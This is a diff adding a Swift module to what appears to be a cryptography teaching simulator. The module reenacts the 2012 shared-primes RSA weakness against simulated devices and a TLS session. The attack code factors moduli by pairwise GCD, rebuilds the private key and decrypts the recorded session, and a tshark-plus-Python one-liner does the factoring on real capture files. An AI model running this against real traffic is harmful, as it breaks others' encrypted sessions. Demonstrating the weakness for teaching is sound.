@@ -1,0 +1,122 @@
+import Attacks
+import Crypto
+import PKI
+import Simulator
+import TCPSim
+import TLSSim
+import Trace
+
+/// Two devices have drawn the same first prime at their first start (Heninger and others, Lenstra and others, 2012).
+package enum SharedPrimes: RecordedExhibit {
+    package static let card = Card(
+        "shared-primes", .implementation, .recording, .key, variants: ["standard", "short"], unit: "certificates",
+        year: 2012,
+        cites: [.rfc(4086), .rfc(8017, "3.1")], readsCaptures: true,
+        words: SharedPrimesCard.self)
+
+    /// The states that a device's generator can be in when it draws its first prime.
+    private static func states(_ variant: String) -> Int { variant == "short" ? 1 << 4 : 1 << 8 }
+    private static let suite = CipherSuite.rsaAES128GCM
+
+    package static func record(_ show: Performance, _ outcome: inout Outcome) throws -> Recording {
+        let stage = show.stage()
+        var victims = try Victims(show, suite)
+        let pki = victims.cast.pki
+        let client = stage.add(StageHost(.client, at: .client, show.tcp("client")))
+        let attacker = show.attacker(on: stage)
+        // As many devices as it takes until two begin in the same state. The rule changes the keys and not their number.
+        var draw = show.seeds.fork("states")
+        var begun: [Integer: Int] = [:]
+        var twins: (first: Int, second: Int)?
+        var sights: [Sight] = []
+        var moduli: [Integer] = []
+        while twins == nil {
+            let number = moduli.count
+            let state = draw.integer(below: Integer(states(show.variant)))
+            if let first = begun[state] { twins = (first, number) } else { begun[state] = number }
+            let name = "device-\(number + 1).example.net"
+            var random = show.seeds.fork(name)
+            var early = show.isDefended ? random.fork("first prime") : show.seeds.fork("state \(state)")
+            let (e, p): (Integer, Integer) = (65537, .randomPrime(bits: 1024, using: &early))
+            let key = try RSAPrivateKey.make(
+                p, .randomPrime(bits: 1024, using: &random) { $0 != p && Integer.gcd($0 - 1, e) == 1 }, exponent: e)
+            let identity = try pki.intermediate.issueServer(
+                hostName: name, key: .rsa(key), at: Visit.epoch, using: &random)
+            let address = IPv4Address(10, 0, 2, UInt8(truncatingIfNeeded: number + 1))
+            let device = stage.add(
+                StageHost(.host("device \(number + 1)"), at: address, show.tcp(name)))
+            victims.cast = Visit.Cast(Visit.Options(seed: show.seed, suite: suite), pki: pki, server: identity)
+            let judge = ChainJudge(
+                by: Evaluator(store: pki.trustStore), asking: Question(hostName: name, time: Visit.epoch))
+            let request = Array(
+                "GET /log HTTP/1.1\r\nHost: \(name)\r\nPIN: \(Hex.string(random.octets(2)))\r\n\r\n".utf8)
+            stage.listen(device, port: 443) { [victims] _ in
+                victims.server(number, answers: { _ in .ends([Array("HTTP/1.1 204 No Content\r\n\r\n".utf8)]) })
+            }
+            stage.connect(
+                client, from: UInt16(50_000 + number), to: Socket(address, 443),
+                victims.client(number, says: [request], judge: judge, configure: { $0.hostName = name }))
+            sights += attacker.wait(.seconds(2))
+            moduli.append(key.n)
+            if let twins {
+                outcome.connections = [twins.first, twins.second]
+                outcome.truth = [
+                    ("p", key.p.bigEndian), ("n1", moduli[twins.first].bigEndian), ("n2", key.n.bigEndian),
+                    ("request", request),
+                ]
+            }
+        }
+        return Recording(sights)
+    }
+
+    package static func attack(_ recording: Recording, _ variant: String, _ outcome: inout Outcome) {
+        outcome.theory = .repetition(states(variant))
+        outcome.reproduce = [
+            """
+            tshark -r FILE -Y 'tls.handshake.type==11' -T fields -E occurrence=f -e pkcs1.modulus | tr -d : | \
+            python3 -c "import sys,math; n=[int(x,16) for x in sys.stdin if x.strip()]; \
+            print([(i+1,j+1,hex(math.gcd(n[i],n[j]))) for j in range(len(n)) for i in range(j) if 1<math.gcd(n[i],n[j])<n[i]])"
+            """
+        ]
+        outcome.say(SharedPrimesNote.collects)
+        var known: [RSAPublicKey] = []
+        for handshake in recording.handshakes {
+            guard case .rsa(let key)? = handshake.certifiedKey, !known.contains(key) else { continue }
+            outcome.tries += 1
+            for other in known {
+                let p = Integer.gcd(other.n, key.n)
+                guard p > 1, p < key.n else { continue }
+                let frames = [other, key].flatMap { recording.frames(with: $0.n.bigEndian) }
+                outcome.say(
+                    SharedPrimesNote.divides(outcome.tries, pairs: outcome.tries * (outcome.tries - 1) / 2),
+                    frames: frames,
+                    [.init("p", p.bigEndian), .init("n1", other.n.bigEndian), .init("n2", key.n.bigEndian)])
+                outcome.loot = [("p", p.bigEndian), ("n1", other.n.bigEndian), ("n2", key.n.bigEndian)]
+                return read(handshake, key, p, &outcome)
+            }
+            known.append(key)
+        }
+        outcome.say(SharedPrimesNote.noFactor(outcome.tries), cite: .rfc(4086))
+    }
+
+    /// q = n / p makes the private key, and the private key opens the recorded session.
+    private static func read(
+        _ handshake: RecordedHandshake, _ key: RSAPublicKey, _ p: Integer, _ outcome: inout Outcome
+    ) {
+        guard let q = key.n.quotientAndRemainder(dividingBy: p)?.quotient,
+            let d = key.e.inverse(modulo: Integer.lcm(p - 1, q - 1)),
+            let own = try? RSAPrivateKey(n: key.n, e: key.e, d: d, p: p, q: q),
+            case .rsa(let encrypted) = handshake.keyExchange
+        else { return }
+        // At home there is no clock to hide from.
+        var blinding = SeededRandomSource(seed: 0)
+        guard let premaster = try? PKCS1v15.decrypt(encrypted, with: own, blindedBy: &blinding),
+            let plaintext = handshake.plaintext(by: .premaster(premaster))
+        else { return }
+        outcome.loot.append(("request", plaintext.client))
+        outcome.reached = true
+        outcome.say(
+            SharedPrimesNote.opens(plaintext.client), cite: .rfc(5246, "7.4.7.1"),
+            [.init("pre_master_secret", premaster)])
+    }
+}
